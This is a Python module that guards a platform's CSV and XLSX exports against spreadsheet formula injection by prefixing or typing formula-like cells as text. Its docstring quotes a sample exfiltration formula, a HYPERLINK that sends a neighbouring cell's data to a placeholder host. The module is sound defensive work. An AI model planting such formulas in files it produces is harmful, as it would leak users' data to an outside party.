"""Cells of the files the platform writes for people (CSV, XLSX): nothing a spreadsheet would run as a formula.

A cell starting with `=`, `+`, `-`, `@`, tab or CR is taken by Excel, WPS and LibreOffice as a formula
(OWASP, "CSV injection"): `=HYPERLINK("http://x/?"&A2,"点此")` in an uploaded row came back from the
rejected-rows report as a live link sending the row's neighbours away. Every CSV and XLSX writer goes
through this module:

- CSV has no cell types, so such a text gets a leading apostrophe, which spreadsheets read as "this is text"
  and do not show (OWASP's advice). Anyone reading the CSV as data sees the apostrophe.
- XLSX has types: the text is stored as a string cell, never a formula, with Excel's own quote-prefix style
  (what Excel does for a typed `'=1+1`), so it shows exactly as it was and stays text when someone edits it.

Numbers stay numbers: a Python number is written as a number (negative numbers in numeric XLSX cells too),
and a text that is a plain decimal number ("-12.5") is left as it is, since a spreadsheet reads it as that
number and no formula can hide in it.
"""

from __future__ import annotations

import csv
import io
import math
import re
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from typing import Any, TextIO

from openpyxl.worksheet.worksheet import Worksheet

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_TRIGGER_SET = frozenset(TRIGGERS)
_LINE_TRIGGER = re.compile(r"\n[=+\-@\t\r]")  # a trigger at the start of any but the first text of a join
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)\Z")


def is_formula_like(value: str) -> bool:
    """A text that a spreadsheet would evaluate (or try to) instead of showing it."""
    return value.startswith(TRIGGERS) and _PLAIN_NUMBER.match(value) is None


def neutral(value: Any) -> Any:
    """The value as a CSV cell: formula-like texts with the apostrophe in front, everything else unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


class CsvWriter:
    """`csv.writer` whose rows are neutralised cell by cell."""

    def __init__(self, out: TextIO) -> None:
        self._out = out
        self._writer = csv.writer(out)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow([neutral(v) for v in values])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Many rows at once (streamed downloads): the same neutralisation, with the first character looked at
        before anything else (most cells start with none of the triggers)."""
        first = _TRIGGER_SET
        self._writer.writerows(
            [("'" + v if v and v[0] in first and is_formula_like(v) else v) if v.__class__ is str else
             neutral(v) for v in values] for values in rows)


_CSV_SPECIAL = re.compile(r'[,"\r\n]')
_CSV_SPECIALS = (",", '"', "\r", "\n")
_STR = {str}


def _csv_cell(value: str) -> str:
    return '"' + value.replace('"', '""') + '"' if _CSV_SPECIAL.search(value) else value


def _csv_cells(values: Sequence[Any]) -> Sequence[str]:
    """A column as csv.writer writes its cells: None empty, other non-texts as str() (floats as repr, the same),
    a text with a comma, quote or line break quoted with its quotes doubled."""
    if set(map(type, values)) - _STR:
        values = ["" if v is None else v if v.__class__ is str else str(v) for v in values]
    joined = "".join(values)
    if not any(special in joined for special in _CSV_SPECIALS):  # one substring search each: far quicker than
        return values                                            # a character class over the whole text
    return [_csv_cell(v) for v in values]


class CsvRows:
    """Rows given as one list, row after row (`width` cells each), as the text `CsvWriter.writerows` writes for
    them: each cell neutralised, csv's QUOTE_MINIMAL, "\r\n" after each row. One per stream: it keeps the list
    its batches are joined through (cells and separators in turn), so that each batch of the same size only
    puts its cells in.

    The usual batch of a download is text that needs neither an apostrophe nor quotes: its cells are joined with
    their separators at once (no work per row or per cell), and the joined text shows whether that held: no quote
    character, no more commas and line ends than the separators put there, no trigger after a separator. Any
    other batch is made column by column (`neutral_column`, then csv's quoting) and joined the same way."""

    def __init__(self, width: int) -> None:
        self.width = width
        self._joined: list[Any] = []

    def __call__(self, values: list[Any]) -> str:
        width = self.width
        if not values:
            return ""
        if width < 2:  # csv's own rules for a lone empty cell ('""', not a blank line)
            out = io.StringIO()
            csv.writer(out).writerows(zip(neutral_column(values)))
            return out.getvalue()
        rows = len(values) // width
        joined = self._joined
        if len(joined) != 2 * len(values):
            joined = self._joined = [None] * (2 * len(values))
            joined[1::2] = (*([","] * (width - 1)), "\r\n") * rows
        joined[0::2] = values
        try:
            text = "".join(joined)
        except TypeError:  # not all text: made cell by cell below
            pass
        else:
            if _as_written(text, width, rows):
                return text
        for i in range(width):
            column = values[i::width]
            cells = _csv_cells(neutral_column(column))
            if cells is not column:
                joined[2 * i::2 * width] = cells
        return "".join(joined)


def csv_rows(values: list[Any], width: int) -> str:
    """`CsvRows` of one batch."""
    return CsvRows(width)(values)


# A trigger that would start a cell of the joined text: at its start, or after a separator. (A CR cannot: a text
# with one CR per row has them all in its line ends.)
_CELL_STARTS = tuple((trigger, "," + trigger, "\n" + trigger) for trigger in TRIGGERS if trigger != "\r")


def _as_written(text: str, width: int, rows: int) -> bool:
    """Whether `text`, the cells of `rows` rows joined with their separators, is what csv.writer writes for the
    neutralised cells: no cell holds a quote, comma or line break, none starts with a trigger."""
    if '"' in text or text.count(",") != (width - 1) * rows or text.count("\n") != rows or text.count("\r") != rows:
        return False
    return not any(trigger in text and (text.startswith(trigger) or after_comma in text or after_line in text)
                   for trigger, after_comma, after_line in _CELL_STARTS)


def neutral_column(values: Sequence[Any]) -> Sequence[Any]:
    """`neutral` of each value of a column, as a sequence of the same length: the column itself when none of its
    texts starts with a trigger (the usual case, found with one search over its joined text), else a new list."""
    try:
        joined = "\n".join(values)
    except TypeError:  # not all text: the texts alone decide (neutral leaves other values as they are)
        joined = "\n".join([v for v in values if isinstance(v, str)])
    if not any(trigger in joined for trigger in TRIGGERS):  # none anywhere: a quick search for each
        return values
    if _LINE_TRIGGER.search(joined) is None and not joined.startswith(TRIGGERS):
        return values
    return [neutral(v) for v in values]


def csv_writer(out: TextIO) -> CsvWriter:
    return CsvWriter(out)


def csv_line(values: Iterable[Any]) -> str:
    """One CSV line (with its line end), neutralised."""
    buffer = io.StringIO()
    CsvWriter(buffer).writerow(values)
    return buffer.getvalue()


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """Append a row to an XLSX sheet; formula-like texts become quote-prefixed string cells, never formulas."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and is_formula_like(cell.value):
            cell.data_type = "s"  # openpyxl made "=..." a formula cell
            cell.quotePrefix = True


# An .xlsx written as it goes (open data downloads of any size): the zip is streamed with data descriptors,
# the sheet's XML row by row with inline strings, so memory holds one batch of rows, never the workbook.
# openpyxl's write-only mode keeps the sheet in a temporary file and hands it over only at the end.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_XLSX_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/styles.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/></Types>'),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="xl/workbook.xml"/></Relationships>'),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'styles" Target="styles.xml"/></Relationships>'),
    "xl/styles.xml": (  # style 1: quote prefix, what Excel itself gives a typed '=1+1
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
        '<fills count="2"><fill><patternFill patternType="none"/></fill>'
        '<fill><patternFill patternType="gray125"/></fill></fills>'
        '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
        '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
        '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
        '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0" quotePrefix="1"/></cellXfs>'
        '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>'),
}


def _xml_text(value: str) -> str:
    text = _XML_ILLEGAL.sub("", value)
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def xlsx_cell(value: Any) -> str:
    """One cell's XML: numbers as numbers, everything else an inline string; a formula-like text is a string
    with the quote-prefix style (never a formula), as `append_row` does with openpyxl."""
    if value is None:
        return "<c/>"
    if isinstance(value, bool):
        return f'<c t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float) and math.isfinite(value):
        return f"<c><v>{value!r}</v></c>"
    text = _xml_text(value if isinstance(value, str) else str(value))
    style = ' s="1"' if is_formula_like(text) else ""
    return f'<c t="inlineStr"{style}><is><t xml:space="preserve">{text}</t></is></c>'


class _Sink(io.RawIOBase):
    """Where the zip writes: bytes kept until the caller takes them (unseekable, so zipfile streams)."""

    def __init__(self) -> None:
        self.parts: list[bytes] = []

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        self.parts.append(bytes(data))
        return len(data)

    def take(self) -> bytes:
        out = b"".join(self.parts)
        self.parts.clear()
        return out


def xlsx_stream(header: Sequence[str], batches: Iterable[Iterable[Sequence[Any]]],
                sheet: str = "数据") -> Iterator[bytes]:
    """An .xlsx of one sheet, `header` then the rows of each batch, as bytes chunks (one or more per batch)."""
    sink = _Sink()
    archive = zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1)  # type: ignore[arg-type]
    for name, text in _XLSX_PARTS.items():
        archive.writestr(name, text)
    archive.writestr("xl/workbook.xml", (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f'<sheets><sheet name="{_xml_text(sheet)[:31]}" sheetId="1" r:id="rId1"/></sheets></workbook>'))
    yield sink.take()
    with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
        part.write(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                   b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
        part.write(("<row>" + "".join(map(xlsx_cell, header)) + "</row>").encode())
        for batch in batches:
            part.write("".join("<row>" + "".join(map(xlsx_cell, row)) + "</row>" for row in batch).encode())
            chunk = sink.take()
            if chunk:
                yield chunk
        part.write(b"</sheetData></worksheet>")
    archive.close()
    yield sink.take()
